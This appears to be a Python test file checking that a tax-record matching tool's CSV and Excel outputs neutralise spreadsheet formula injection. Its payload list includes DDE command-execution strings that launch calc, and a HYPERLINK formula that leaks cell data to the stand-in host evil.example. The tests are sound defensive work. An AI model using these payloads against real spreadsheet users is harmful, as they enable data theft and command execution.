"""Every cell of every output is inert in a spreadsheet: no formula, no hyperlink, no DDE."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from tinmatch.neutralize import neutralize
from tinmatch.pipeline.write import ResultWriter

from .helpers import assert_inert, dangerous

FIELDS = ("street", "address_line2", "city", "state", "zip", "tax_year")

#: Payloads from the OWASP CSV-injection page and friends.
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1",
    "\u2003=1+1", "\ufeff=1+1", "\u200b@SUM(1)", "\uff1d1+1", "\uff0b1", "\uff20SUM(1)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0", "x cmd|'/C calc'!A0", "=IMPORTXML(CONCAT(\"http://\"),\"//a\")",
    "http://evil.example/track", "mailto:a@evil.example", "-", "+", "=", "@",
]  # fmt: skip


def write_result(out: Path, texts: list[str]) -> Path:
    writer = ResultWriter(out, FIELDS)
    n = len(texts)
    writer.add_matched(pd.DataFrame({
        "record_id": texts, "street": texts, "address_line2": texts, "city": texts,
        "state": texts, "zip": texts, "tax_year": [2024] * n, "match_probability": [0.999] * n,
    }))
    writer.add_rejected(pd.DataFrame({
        "record_id": texts, "reason_codes": ["invalid_value"] * n, "fields": texts,
        "message": texts, "_row": list(range(2, n + 2)),
    }))
    writer.add_unmatched(pd.DataFrame({
        "record_id": texts, "reason_code": ["no_candidate"] * n, "message": texts,
    }))
    writer.close({"request_id": texts[0], "note": texts[-1]})
    return out


def test_known_payloads_are_neutralized_everywhere(tmp_path: Path) -> None:
    assert all(dangerous(p) for p in PAYLOADS if not p.startswith(("http", "mailto")))
    out = write_result(tmp_path / "out", PAYLOADS)
    assert assert_inert(out) > 10 * len(PAYLOADS)
    book = openpyxl.load_workbook(out / "result.xlsx")
    matched = book["matched"]
    # Text survives, visibly marked: the analyst sees the requester's value, inert.
    assert matched.cell(row=2, column=1).value == "'=1+1"
    assert matched.cell(row=2, column=7).value == 2024  # numbers stay numbers


_text = st.text(
    alphabet=st.one_of(
        st.sampled_from(list("=+-@|!'\"\t\r\n ,;()A1") + ["\u00a0", "\ufeff", "\uff1d"]),
        st.characters(codec="utf-8", exclude_characters="\x00"),
    ),
    min_size=1,
    max_size=30,
)


@settings(max_examples=25, deadline=None)
@given(st.lists(_text, min_size=1, max_size=8))
def test_any_text_is_written_inert(texts: list[str]) -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        assert_inert(write_result(Path(tmp) / "out", texts))


@settings(max_examples=300, deadline=None)
@given(_text)
def test_neutralize_is_idempotent_and_keeps_the_text(text: str) -> None:
    once = neutralize(text)
    assert neutralize(once) == once
    assert once in (text, "'" + text)
    stripped = once.lstrip(" \t\r\n\u00a0\u3000\u2003\ufeff\u200b")
    assert once.startswith("'") or not stripped.startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))


def test_extra_tables_are_neutralized_staged_and_keep_numbers(tmp_path: Path) -> None:
    out = tmp_path / "out"
    writer = ResultWriter(out, FIELDS)
    writer.add_extra("explain", ("record_id", "rank", "match_weight"), pd.DataFrame({
        "record_id": ["=1+1", "r2"], "rank": [1, 2], "match_weight": [-3.25, 12.5],
    }))
    assert not (out / "explain.csv").exists()  # nothing under a final name before close
    writer.close({"request_id": "x"})
    text = (out / "explain.csv").read_text(encoding="utf-8")
    assert text.splitlines() == ["record_id,rank,match_weight", "'=1+1,1,-3.25", "r2,2,12.5"]
    assert sorted(p.name for p in out.iterdir()) == [
        "explain.csv", "matched.csv", "rejected.csv", "result.xlsx", "unmatched.csv",
    ]


def test_explain_csv_is_neutralized(tmp_path: Path) -> None:
    from tinmatch.pipeline.explain import COLUMNS
    from tinmatch.pipeline.write import ResultWriter

    writer = ResultWriter(tmp_path, ("street", "city", "state", "zip", "tax_year"))
    line = {c: ("=cmd|' /C calc'!A0" if c in ("record_id", "outcome") else 0) for c in COLUMNS}
    writer.add_extra("explain", COLUMNS, pd.DataFrame([line]))
    writer.close({})
    with (tmp_path / "explain.csv").open(encoding="utf-8", newline="") as handle:
        assert not any(dangerous(v) for row in csv.reader(handle) for v in row)


def test_results_are_readable_by_their_owner_only(tmp_path: Path) -> None:
    out = write_result(tmp_path / "out", ["r1"])
    modes = {p.name: p.stat().st_mode & 0o777 for p in out.iterdir()}
    assert modes == dict.fromkeys(
        ("matched.csv", "rejected.csv", "unmatched.csv", "result.xlsx"), 0o600
    )
